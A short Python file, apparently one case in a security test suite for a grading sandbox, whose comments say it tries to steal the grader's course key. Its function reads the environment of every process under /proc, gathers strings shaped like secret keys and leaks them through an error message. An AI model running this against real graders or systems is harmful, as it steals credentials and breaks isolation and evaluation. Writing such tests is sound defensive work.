# tries: to read the environment of every process: the grader's has the course key in it
# fails: other processes are not there (or belong to another user), and its own has nothing of ours
# goal: steal
# stopped from: T1
# undefended: untried: the course key
import os
import re


def attack(*arguments, **keywords):
    found = set(re.findall(rb"secret-[0-9a-f]{16}", repr(os.environ).encode()))
    for process in os.listdir("/proc"):
        try:
            with open(f"/proc/{process}/environ", "rb") as file:
                found |= set(re.findall(rb"secret-[0-9a-f]{16}", file.read()))
        except OSError:
            continue
    raise RuntimeError(f"found {sorted(found)}")
